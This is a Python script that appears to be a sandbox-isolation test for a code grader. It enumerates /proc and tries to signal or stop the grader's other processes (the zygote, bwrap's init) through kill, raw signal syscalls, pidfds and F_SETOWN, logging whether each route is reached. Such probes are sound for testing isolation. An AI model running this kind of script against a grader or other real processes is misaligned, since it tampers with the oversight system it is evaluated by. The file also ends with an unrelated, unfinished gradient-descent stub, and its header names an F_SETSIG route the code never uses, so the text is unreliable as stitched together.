# ATTACK (ex02, class "a run acts on the zygote"): signal the other processes of its pid
# namespace (the warm zygote, bwrap's init) by every route: kill by pid, by process group and
# to everyone (-1), rt_sigqueueinfo and tgkill through the raw calls, a pidfd opened by pid or
# from its /proc folder, and SIGIO routed to them with F_SETOWN and F_SETSIG on a socket.
# Each uses signal 0 or SIGCONT where it can (a check of reach, harmless if it got through),
# and SIGSTOP through the routes whose success would not be seen otherwise.
# VERDICT: graded, 0 points; every attempt is refused, none says REACHED; the grader and the
# next submission in the slot carry on.
import ctypes
import errno
import fcntl
import os
import signal
import socket

libc = ctypes.CDLL(None, use_errno=True)
NR = {"x86_64": dict(rt_sigqueueinfo=129, tgkill=234, tkill=200, pidfd_send_signal=424),
      "aarch64": dict(rt_sigqueueinfo=138, tgkill=131, tkill=130,
                      pidfd_send_signal=424)}[os.uname().machine]


def attempt(name, fn):
    try:
        fn()
        print(f"REACHED {name}")
    except OSError as e:
        print(f"refused {name}: {errno.errorcode.get(e.errno, e.errno)}")


def raw(name, *args):
    if libc.syscall(NR[name], *args) != 0:
        raise OSError(ctypes.get_errno(), name)


me = os.getpid()
info = (ctypes.c_int * 32)(0, 0, -1)  # si_code SI_QUEUE
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    attempt(f"kill({pid}, 0)", lambda: os.kill(pid, 0))
    attempt(f"kill(-{pid}, 0)", lambda: os.kill(-pid, 0))
    attempt(f"rt_sigqueueinfo({pid})", lambda: raw("rt_sigqueueinfo", pid, signal.SIGCONT,
                                                   ctypes.byref(info)))
    attempt(f"tgkill({pid})", lambda: raw("tgkill", pid, pid, 0))
    attempt(f"tkill({pid})", lambda: raw("tkill", pid, 0))
    attempt(f"pidfd_open({pid})", lambda: os.close(os.pidfd_open(pid)))
    try:
        dirfd = os.open(f"/proc/{pid}", os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        dirfd = None
    if dirfd is not None:
        attempt(f"pidfd_send_signal(/proc/{pid})",
                lambda: raw("pidfd_send_signal", dirfd, signal.SIGSTOP, None, 0))
        os.close(dirfd)
    a, b = socket.socketpair()
    attempt(f"F_SETOWN({pid})", lambda: fcntl.fcntl(a, fcntl.F_SETOWN, pid))
    a.close(), b.close()
attempt("kill(-1, 0)", lambda: os.kill(-1, 0))
os.kill(0, 0)  # its own process group: allowed
print("own group signalled")
print("ALIVE after the signals")


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    loss_fn(params)
